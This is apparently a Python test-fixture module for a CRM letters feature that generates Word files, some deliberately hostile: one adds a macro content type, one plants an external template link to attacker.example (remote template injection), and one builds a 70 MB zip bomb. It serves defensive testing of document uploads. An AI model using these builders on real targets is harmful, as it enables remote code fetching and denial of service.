"""Word files made on the spot with python-docx (and zipfile for the broken ones)."""

from __future__ import annotations

import io
import zipfile

from docx import Document
from openpyxl import Workbook

from crm.letters.storage import SAMPLE_TEMPLATE


def docx_with(*paragraphs: str) -> bytes:
    document = Document()
    for text in paragraphs:
        document.add_paragraph(text)
    output = io.BytesIO()
    document.save(output)
    return output.getvalue()


def sample_bytes() -> bytes:
    return SAMPLE_TEMPLATE.read_bytes()


def rewritten(data: bytes, change) -> bytes:
    """The .docx with its parts passed through change(name, bytes) -> bytes | None (None drops the part)."""
    output = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            content = change(item.filename, source.read(item.filename))
            if content is not None:
                target.writestr(item.filename, content)
    return output.getvalue()


def with_macro_content_type(data: bytes) -> bytes:
    def change(name, content):
        if name == "[Content_Types].xml":
            return content.replace(
                b"</Types>",
                b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
            )
        return content

    return rewritten(data, change)


def with_remote_template(data: bytes) -> bytes:
    def change(name, content):
        if name == "word/_rels/settings.xml.rels" or name == "word/_rels/document.xml.rels":
            return content.replace(
                b"</Relationships>",
                b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                b'attachedTemplate" Target="http://attacker.example/template.dotm" TargetMode="External"/>'
                b"</Relationships>",
            )
        return content

    return rewritten(data, change)


def spreadsheet_bytes() -> bytes:
    output = io.BytesIO()
    Workbook().save(output)
    return output.getvalue()


def zip_bomb() -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("word/document.xml", b"\0" * (70 * 1024 * 1024))
    return output.getvalue()


def paragraphs(data: bytes) -> list[str]:
    return [p.text for p in Document(io.BytesIO(data)).paragraphs]
